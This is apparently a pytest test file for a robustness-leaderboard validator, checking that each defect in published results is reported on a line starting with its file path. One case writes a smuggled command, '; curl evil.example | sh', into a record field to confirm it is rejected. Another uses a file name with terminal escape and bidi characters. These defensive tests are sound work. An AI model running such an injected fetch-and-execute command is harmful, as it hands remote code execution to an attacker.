"""Each check: what it finds, and that its line starts with the path of the file."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path, PurePosixPath

import pytest

from robustbert.cli import main
from robustbert.commands.strict_option import published_marks_fail
from robustbert.leaderboard.checks.check_results import CHECKS, check_results
from robustbert.metrics.reliability import measured_check
from robustbert.records import DefenseRef, read_published
from tests.leaderboard.published import write_published
from tests.leaderboard.valid_results import (
    edit_outcome,
    edit_record,
    problem_lines,
    valid_cell,
    write_valid,
)

TABLE = "rotten_tomatoes/unified"
ROW = f"{TABLE}/minilm-97f6e7cb"
OTHER_ROW = f"{TABLE}/tfidf-svm-264d3283"


@pytest.fixture
def results(tmp_path: Path) -> Path:
    return write_valid(tmp_path / "results")


def test_valid_results_have_no_problems(results: Path, capsys) -> None:
    assert check_results(results).cells == read_published(results)
    assert main(["leaderboard", "check", "--results", str(results)]) == 0
    assert capsys.readouterr().out == f"{results}: 4 valid cells, no problems\n"


@pytest.mark.parametrize("action", ["check", "show"])
def test_a_mark_fails_only_with_strict(action: str, results: Path, tmp_path: Path, capsys) -> None:
    cells = read_published(results)
    failed = [check for cell in cells for check in cell.record.reliability if not check.passed]
    assert failed
    command = ["leaderboard", action, "--results", str(results)]
    assert main(command) == 0
    assert capsys.readouterr().err == ""
    assert main([*command, "--strict"]) == 1
    errors = capsys.readouterr().err.splitlines()
    assert len(errors) == len(failed)
    assert all(f": {check.name} failed (" in "".join(errors) for check in failed)
    unmarked = tmp_path / "unmarked"
    write_published([valid_cell("sbbbbb")], unmarked)
    assert main(["leaderboard", action, "--results", str(unmarked), "--strict"]) == 0
    assert capsys.readouterr().err == ""


def test_marks_of_the_first_schema_version_are_computed(results: Path) -> None:
    cells = read_published(results)
    without = [
        (cell.record.model_copy(update={"reliability": []}), cell.outcomes) for cell in cells
    ]
    assert published_marks_fail(without)
    assert not published_marks_fail([(record, ()) for record, _ in without])


def test_a_defense_that_changes_nothing_is_another_row(results: Path) -> None:
    flooding = DefenseRef(name="flooding", params={"level": 0.0}, revision=1)
    write_published([valid_cell("sbbrxr", defenses=[flooding])], results)
    assert len(check_results(results).cells) == 5
    assert not check_results(results).problems


def set_field(*path: str, value: object) -> Callable[[Path], None]:
    """Edit one field of the record of pwws by hand."""

    def edit(results: Path) -> None:
        def change(content: dict) -> None:
            *parents, name = path
            for parent in parents:
                content = content[parent]
            content[name] = value

        edit_record(results / ROW / "pwws.json", change)

    return edit


def set_outcome(line: int, **changes: object) -> Callable[[Path], None]:
    """Edit one line of the outcomes of pwws by hand."""
    return lambda results: edit_outcome(results / ROW / "pwws.jsonl", line, **changes)


def move(source: str, target: str) -> Callable[[Path], None]:
    def edit(results: Path) -> None:
        (results / target).parent.mkdir(parents=True, exist_ok=True)
        (results / source).rename(results / target)

    return edit


def add_file(path: str, content: str = "") -> Callable[[Path], None]:
    def edit(results: Path) -> None:
        (results / path).parent.mkdir(parents=True, exist_ok=True)
        (results / path).write_text(content, encoding="utf-8")

    return edit


def delete(path: str) -> Callable[[Path], None]:
    return lambda results: (results / path).unlink()


def add_cell(letters: str, **names: object) -> Callable[[Path], None]:
    return lambda results: write_published([valid_cell(letters, **names)], results)


PROBLEMS = {
    "a metric": (
        set_field("metrics", "queries_mean", value=9.5),
        f"{ROW}/pwws.json: metrics: queries_mean is 9.5, but pwws.jsonl gives 38",
    ),
    "an interval": (
        set_field("metrics", "accuracy_under_attack", "low", value=0.4),
        f"{ROW}/pwws.json: metrics: accuracy_under_attack.low is 0.4, but pwws.jsonl gives "
        "0.187616",
    ),
    "a metric that contradicts the counts": (
        set_field("metrics", "accuracy_under_attack", "value", value=0.75),
        f"{ROW}/pwws.json: schema: metrics.accuracy_under_attack: 0.75 of 6, but counts say 3/6",
    ),
    "a reliability check": (
        set_field("reliability", 0, "measured", value=0.05),
        f"{ROW}/pwws.json: reliability: exhausted.measured is 0.05, but pwws.jsonl gives 0.2",
    ),
    "a field that there is not": (
        set_field("verified", value=True),
        f"{ROW}/pwws.json: schema: verified: Extra inputs are not permitted",
    ),
    "uncommitted changes": (
        set_field("environment", "dirty", value=True),
        f"{ROW}/pwws.json: checkout: the code had uncommitted changes; commit them and run the "
        "cell again",
    ),
    "a foreign assets profile": (
        set_field("assets", "profile", value="canonical"),
        f"{ROW}/pwws.json: conditions: assets profile canonical instead of offline, as in most "
        "of the table",
    ),
    "other data": (
        set_field("dataset", "sha256", value="d" * 64),
        f"{ROW}/pwws.json: conditions: dataset hash dddddd instead of aaaaaa, as in most of "
        "the table",
    ),
    "other limits": (
        set_field("protocol", "limits", "words_changed", value=0.1),
        f"{ROW}/pwws.json: conditions: limit words_changed 0.1 instead of 0.3, as in most of "
        "the table",
    ),
    "another revision of the protocol": (
        set_field("protocol", "revision", value=1),
        f"{ROW}/pwws.json: conditions: protocol revision 1 instead of 2, as in most of the table",
    ),
    "another split": (
        set_field("dataset", "split", value="train"),
        f"{ROW}/pwws.json: conditions: split train instead of test, as in most of the table",
    ),
    "weights that are not those of the path": (
        set_field("model", "sha256", value="4" * 64),
        f"{ROW}/pwws.json: path: the hash of its row is 4cb00529, not 97f6e7cb; it belongs at "
        f"{TABLE}/minilm-4cb00529/pwws.json",
    ),
    "a status that the counts contradict": (
        set_outcome(4, status="exhausted"),
        f"{ROW}/pwws.json: counts: robust is 2, but pwws.jsonl gives 1",
    ),
    "a status that its other fields contradict": (
        set_outcome(2, status="robust"),
        f"{ROW}/pwws.jsonl: schema: line 2: adversarial fields are only allowed for 'broken' or "
        "retracted outcomes",
    ),
    "several invalid lines": (
        lambda results: [set_outcome(line, words=-1)(results) for line in (2, 3, 5)],
        f"{ROW}/pwws.jsonl: schema: line 2: words: Input should be greater than or equal to 0 "
        "(and 2 more lines)",
    ),
    "an example twice": (
        set_outcome(2, example_id="e0"),
        f"{ROW}/pwws.jsonl: schema: line 2: example_id: duplicate 'e0'",
    ),
    "a text": (
        set_outcome(4, text="a fine film"),
        f"{ROW}/pwws.jsonl: texts: line 4: contains a text; published outcomes have none",
    ),
    "a seed": (
        set_outcome(4, seed=1),
        f"{ROW}/pwws.jsonl: seeds: line 4: the seed is not that of this example and record",
    ),
    "another example": (
        set_outcome(4, words=4),
        f"{ROW}/pwws.jsonl: examples: line 4: another example, label or number of words than most "
        "of the table",
    ),
    "another clean prediction": (
        lambda results: (
            [add_cell("sbrr", recipe=recipe)(results) for recipe in ("deepwordbug", "textbugger")]
            and add_cell("bbbrxr")(results)
        ),
        f"{ROW}/pwws.jsonl: predictions: line 1: another clean prediction than most cells of "
        "the row",
    ),
    "a class that there is not": (
        set_outcome(2, adversarial_prediction=2),
        f"{ROW}/pwws.jsonl: outcomes: line 2: a class that there is not, because label_names has 2",
    ),
    "more queries than the budget": (
        set_outcome(3, queries=151),
        f"{ROW}/pwws.jsonl: limits: line 3: more queries than the budget",
    ),
    "another model": (
        set_outcome(4, label_probability=0.7),
        f"{TABLE}/minilm-97f6e7cb/textfooler.jsonl: predictions: line 4: another "
        f"label_probability than {ROW}/pwws.json",
    ),
    "a date in the future": (
        set_field("created_at", value="2999-01-01T00:00:00Z"),
        f"{ROW}/pwws.json: date: created_at is in the future: 2999-01-01T00:00:00Z",
    ),
    "a command for a shell": (
        set_field("command", value="robustbert bench --out runs/a; curl evil.example | sh"),
        f"{ROW}/pwws.json: command: the command is not one quoted call of robustbert; file the "
        "record as written",
    ),
    "other names of the labels": (
        set_field("dataset", "label_names", value=["positive", "negative"]),
        f"{ROW}/pwws.json: conditions: label_names ['positive', 'negative'] instead of "
        "['negative', 'positive'], as in most of the table",
    ),
    "an attack with an error": (
        add_cell("sbbrxe"),
        f"{ROW}/pwws.json: errors: 1 attack ended in an error; repeat the run, which retries them",
    ),
    "a row under another name": (
        add_cell("sbbrxr", model="renamed", model_sha256="1" * 64),
        f"{TABLE}/renamed-97f6e7cb/pwws.json: duplicates: has the weights and defenses of "
        f"{ROW}; give the model the name it has there, or remove one of them",
    ),
    "another recipe of a row under another name": (
        add_cell("sbbrxr", model="renamed", model_sha256="1" * 64, recipe="iga"),
        f"{TABLE}/renamed-97f6e7cb/iga.json: duplicates: has the weights and defenses of "
        f"{ROW}; give the model the name it has there, or remove one of them",
    ),
    "a row under another hash": (
        add_cell("sbbrxr", model_sha256="3" * 64),
        f"{TABLE}/minilm-a83e4e9b/pwws.json: duplicates: has the outcomes of {ROW}/pwws.json; "
        "remove one of them",
    ),
    "a record at two places": (
        lambda results: shutil.copytree(results / ROW, results / TABLE / "minilm-00000000"),
        f"{TABLE}/minilm-00000000/pwws.json: duplicates: is the same record as {ROW}/pwws.json; "
        "remove one of them",
    ),
    "a wrong hash in the name of the folder": (
        move(ROW, f"{TABLE}/minilm-00000000"),
        f"{TABLE}/minilm-00000000/pwws.json: path: the hash of its row is 97f6e7cb, not 00000000; "
        f"it belongs at {ROW}/pwws.json",
    ),
    "a wrong name of the folder": (
        move(ROW, f"{TABLE}/bert-97f6e7cb"),
        f"{TABLE}/bert-97f6e7cb/pwws.json: path: its row is minilm, not bert; it belongs at "
        f"{ROW}/pwws.json",
    ),
    "the folder of another dataset and track": (
        move(ROW, "imdb/published/minilm-97f6e7cb"),
        "imdb/published/minilm-97f6e7cb/pwws.json: path: its dataset is rotten_tomatoes, not imdb "
        f"and its track is unified, not published; it belongs at {ROW}/pwws.json",
    ),
    "the file of another recipe": (
        lambda results: [
            move(f"{ROW}/pwws.json{end}", f"{ROW}/iga.json{end}")(results) for end in ("", "l")
        ],
        f"{ROW}/iga.json: path: its recipe is pwws, not iga; it belongs at {ROW}/pwws.json",
    ),
    "no outcomes": (
        delete(f"{ROW}/pwws.jsonl"),
        f"{ROW}/pwws.json: files: has no outcomes; put pwws.jsonl beside it",
    ),
    "no record": (
        delete(f"{ROW}/pwws.json"),
        f"{ROW}/pwws.jsonl: files: has no record; put pwws.json beside it",
    ),
    "an unknown file": (
        add_file(f"{ROW}/notes.txt"),
        f"{ROW}/notes.txt: files: does not belong to published results; remove it",
    ),
    "a file beside the rows": (
        add_file(f"{TABLE}/pwws.json", "{}"),
        f"{TABLE}/pwws.json: files: does not belong to published results; remove it",
    ),
    "a file beside the datasets": (
        add_file("table.csv"),
        "table.csv: files: does not belong to published results; remove it",
    ),
    "an unknown track": (
        move(ROW, "imdb/unifed/minilm-97f6e7cb"),
        "imdb/unifed/minilm-97f6e7cb/pwws.json: files: 'unifed' is not a track; the tracks are "
        "published, unified, unified-li",
    ),
    "a link": (
        lambda results: (results / ROW / "iga.json").symlink_to("pwws.json"),
        f"{ROW}/iga.json: files: is a link; put the file itself here",
    ),
    "a pipe": (
        lambda results: os.mkfifo(results / ROW / "iga.json"),
        f"{ROW}/iga.json: files: is not a regular file; remove it",
    ),
    "a link to a dataset": (
        lambda results: [
            move("rotten_tomatoes", "../moved")(results),
            (results / "rotten_tomatoes").symlink_to("../moved"),
        ],
        "rotten_tomatoes: files: is a link; put the file itself here",
    ),
    "a folder with outcomes only": (
        add_file("imdb/unifed/minilm-97f6e7cb/pwws.jsonl"),
        "imdb/unifed/minilm-97f6e7cb/pwws.jsonl: files: 'unifed' is not a track; the tracks are "
        "published, unified, unified-li",
    ),
    "claims in another format": (
        add_file(f"{ROW}/claims.json", '{"claims_version": 7}'),
        f"{ROW}/claims.json: claims: claims_version: 7, but this robustbert reads 1; upgrade "
        "robustbert",
    ),
    "claims of no row": (
        add_file(f"{TABLE}/bert-12345678/claims.json", '{"claims_version": 1, "claims": []}'),
        f"{TABLE}/bert-12345678/claims.json: claims: the row has no records; file them first",
    ),
    "a recheck in another format": (
        add_file(f"{ROW}/recheck.json", '{"recheck_version": 7}'),
        f"{ROW}/recheck.json: rechecks: recheck_version: 7, but this robustbert reads 1; upgrade "
        "robustbert",
    ),
    "JSON that is none": (
        add_file(f"{ROW}/pwws.json", "{"),
        f"{ROW}/pwws.json: schema: not JSON in UTF-8: Expecting property name enclosed in double "
        "quotes: line 1 column 2 (char 1)",
    ),
}


@pytest.mark.parametrize("name", PROBLEMS)
def test_each_problem_is_a_line_that_starts_with_the_file(results: Path, name: str) -> None:
    edit, expected = PROBLEMS[name]
    edit(results)
    lines = problem_lines(results)
    assert f"results/{expected}" in lines
    paths = [PurePosixPath(line.split(": ")[0]) for line in lines]
    assert paths == sorted(paths)


def test_every_check_has_a_problem_here() -> None:
    found = {line.split(": ")[1] for _, line in PROBLEMS.values()}
    assert found == {check.name for check in CHECKS}


def test_a_duplicate_is_one_problem_of_one_of_the_two(results: Path) -> None:
    for recipe in ("pwws", "textfooler"):
        letters = "sbbrxr" if recipe == "pwws" else "sbrr"
        add_cell(letters, model="bert", model_sha256="1" * 64, recipe=recipe)(results)
    add_cell("sbr", track="published", recipe="deepwordbug")(results)
    lines = problem_lines(results)
    assert [line.split(": ")[:2] for line in lines] == [
        [f"results/{TABLE}/bert-97f6e7cb/{recipe}.json", "duplicates"]
        for recipe in ("pwws", "textfooler")
    ]


def test_a_misplaced_row_is_no_duplicate(results: Path) -> None:
    add_cell("sbr", track="published")(results)
    move(ROW, f"{TABLE}/minilm-00000000")(results)
    assert {line.split(": ")[1] for line in problem_lines(results)} == {"path"}


def test_all_problems_are_listed_and_the_exit_code_is_1(results: Path, capsys) -> None:
    for name in ("a metric", "a seed", "an unknown file"):
        PROBLEMS[name][0](results)
    assert main(["leaderboard", "check", "--results", str(results)]) == 1
    *lines, summary = capsys.readouterr().out.splitlines()
    expected = [PROBLEMS[name][1] for name in ("an unknown file", "a metric", "a seed")]
    assert lines == [f"{results}/{line}" for line in expected]
    assert summary == f"{results}: 4 valid cells, 3 problems"


def test_what_is_beside_the_datasets_is_not_checked(results: Path) -> None:
    add_file("README.md")(results)
    add_file("gate/minilm.json", "{}")(results)
    add_file("speed/a-processor/imdb-pwws.json", "{}")(results)
    assert not problem_lines(results)


def test_a_file_name_is_printed_without_its_control_characters(results: Path, capsys) -> None:
    add_file(f"{ROW}/\x1b[31m\u202eevil\n.txt")(results)
    assert main(["leaderboard", "check", "--results", str(results)]) == 1
    line, _ = capsys.readouterr().out.splitlines()
    assert "\\x1b[31m\\u202eevil\\n.txt: files: does not belong" in line


def test_the_threshold_of_a_measured_check_is_not_chosen_by_its_record(results: Path) -> None:
    check = measured_check("zero-gradients", 0.5).model_dump()
    path = results / ROW / "pwws.json"
    edit_record(path, lambda content: content["reliability"].append(check))
    assert not problem_lines(results)
    weaker = {"passed": True, "threshold": 0.9}
    edit_record(path, lambda content: content["reliability"][-1].update(weaker))
    lines = problem_lines(results)
    assert [line.partition("reliability: zero-gradients.")[2] for line in lines] == [
        "passed is true, but pwws.jsonl gives false",
        "threshold is 0.9, but pwws.jsonl gives 0.05",
    ]


def test_rows_that_are_not_repeatable_may_change_their_predictions(results: Path) -> None:
    for recipe in ("pwws", "textfooler", "deepwordbug"):
        add_cell("bbbr" if recipe == "pwws" else "sbbr", recipe=recipe)(results)
    assert any("predictions:" in line for line in problem_lines(results))
    mark = {"name": "batch-invariance", "passed": False, "measured": 1.0, "threshold": 0.0}

    def add_mark(content: dict) -> None:
        content["reliability"].append({**mark, "about": "answers that differed"})

    for recipe in ("pwws", "textfooler", "deepwordbug"):
        edit_record(results / ROW / f"{recipe}.json", add_mark)
    assert not any("predictions:" in line for line in problem_lines(results))


@pytest.mark.parametrize(
    ("folder", "message"),
    [
        ("missing", "no such folder; give the folder of results with --results"),
        ("empty", "contains no published results; file those of a run with robustbert"),
        ("file", "no such folder"),
    ],
)
def test_without_results_the_exit_code_is_2(tmp_path: Path, capsys, folder, message) -> None:
    (tmp_path / "empty" / "gate").mkdir(parents=True)
    (tmp_path / "file").touch()
    assert main(["leaderboard", "check", "--results", str(tmp_path / folder)]) == 2
    written = capsys.readouterr()
    assert not written.out
    assert message in written.err
